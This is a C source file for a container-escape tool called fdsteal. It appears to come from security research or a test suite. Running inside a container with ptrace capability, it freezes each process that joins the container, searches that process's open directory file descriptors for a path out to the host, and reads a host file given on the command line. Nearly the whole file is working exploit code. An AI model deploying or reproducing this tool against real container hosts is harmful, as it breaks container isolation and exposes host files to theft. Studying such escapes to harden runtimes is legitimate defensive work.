/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Host fds reachable while a process joins the container.
 *
 *   fdsteal HOSTFILE
 *       Runs in a container with CAP_SYS_PTRACE, as its first process. Watch
 *       /proc for processes that appear in the container (an exec's or a
 *       healthcheck's process while the runtime still prepares it, or the
 *       init of a container that joins this pid namespace); stop each at
 *       once with PTRACE_SEIZE + PTRACE_INTERRUPT, look through its open fds
 *       for a directory, climb out of it and steal HOSTFILE; detach.
 *       Prints one line per process examined; runs until killed.
 */
#define _GNU_SOURCE
#include "escape.h"
#include "newpids.h"

#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

/* Every directory among pid's fds: try to climb out of it. */
static int try_fds(int pid, const char *host_path)
{
        char p[64];
        snprintf(p, sizeof(p), "/proc/%d/fd", pid);
        DIR *d = opendir(p);
        if (d == NULL) {
                printf("pid %d: cannot list its fds: %s\n", pid, strerror(errno));
                return 0;
        }
        int hits = 0, dirs = 0;
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
                if (e->d_name[0] == '.')
                        continue;
                char fp[320], how[320];
                snprintf(fp, sizeof(fp), "/proc/%d/fd/%s", pid, e->d_name);
                int fd = open(fp, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                if (fd < 0)
                        continue;
                dirs++;
                snprintf(how, sizeof(how), "fd %s of pid %d", e->d_name, pid);
                hits += escape_steal(fd, host_path, how);
                close(fd);
        }
        closedir(d);
        printf("pid %d: %d directory fds, %d led out\n", pid, dirs, hits);
        return hits;
}

/* Stop pid at once, look through its fds, let it go. */
static void seize(int pid, void *host_path)
{
        bool traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
        if (traced) {
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                waitpid(pid, NULL, __WALL);
        }
        if (!traced)
                printf("pid %d: cannot seize: %s\n", pid, strerror(errno));
        try_fds(pid, host_path);
        if (traced)
                ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc != 2) {
                fprintf(stderr, "usage: fdsteal HOSTFILE\n");
                return 2;
        }
        return watch_new_pids(seize, argv[1]);
}
